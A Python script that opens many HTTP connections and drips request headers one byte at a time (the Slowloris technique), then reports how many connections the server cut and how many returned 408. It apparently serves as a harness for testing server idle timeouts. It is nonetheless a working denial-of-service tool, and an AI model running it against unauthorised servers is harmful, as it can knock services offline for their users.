#!/usr/bin/env python3
"""Slowloris clients: each opens a connection and sends a request head one byte at a time,
never finishing it, so an idle timer that each byte resets never fires.

Usage: slowloris.py HOST:PORT [--clients N] [--interval S] [--duration S] [--ready FILE]
Every client connects, then sends a byte every --interval seconds until the server closes the
connection or --duration passes. --ready FILE is created once every client is connected.
Prints "cut=C of N, 408=K, last cut after S s" (S: from the start of the clients to the last
close by the server; "never" when none was cut).
"""
import argparse
import socket
import selectors
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: slow\r\n" + b"".join(b"X-Slow-%d: %s\r\n" % (i, b"z" * 40) for i in range(100))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("address")
    p.add_argument("--clients", type=int, default=10)
    p.add_argument("--interval", type=float, default=0.5)
    p.add_argument("--duration", type=float, default=30)
    p.add_argument("--ready")
    a = p.parse_args()
    host, _, port = a.address.rpartition(":")
    start = time.monotonic()
    sel = selectors.DefaultSelector()
    conns = {}
    for i in range(a.clients):
        s = socket.create_connection((host.strip("[]"), int(port)), timeout=10)
        s.setblocking(False)
        conns[s] = {"sent": 0, "data": b"", "cut": None}
        sel.register(s, selectors.EVENT_READ)
    if a.ready:
        open(a.ready, "w").close()
    next_byte = time.monotonic()
    while time.monotonic() - start < a.duration and any(c["cut"] is None for c in conns.values()):
        now = time.monotonic()
        if now >= next_byte:
            for s, c in conns.items():
                if c["cut"] is None and c["sent"] < len(HEAD):
                    try:
                        s.send(HEAD[c["sent"]:c["sent"] + 1])
                        c["sent"] += 1
                    except OSError:
                        pass  # closed: the read side says so
            next_byte = now + a.interval
        for key, _ in sel.select(timeout=max(0.0, min(0.1, next_byte - time.monotonic()))):
            s, c = key.fileobj, conns[key.fileobj]
            try:
                chunk = s.recv(65536)
            except ConnectionResetError:
                chunk = b""
            if chunk:
                c["data"] += chunk
            else:
                c["cut"] = time.monotonic() - start
                sel.unregister(s)
    cuts = [c["cut"] for c in conns.values() if c["cut"] is not None]
    got408 = sum(1 for c in conns.values() if c["data"].startswith(b"HTTP/1.1 408 "))
    last = "%.1f s" % max(cuts) if cuts else "never"
    print("cut=%d of %d, 408=%d, last cut after %s" % (len(cuts), a.clients, got408, last))
    for s in conns:
        s.close()


if __name__ == "__main__":
    main()
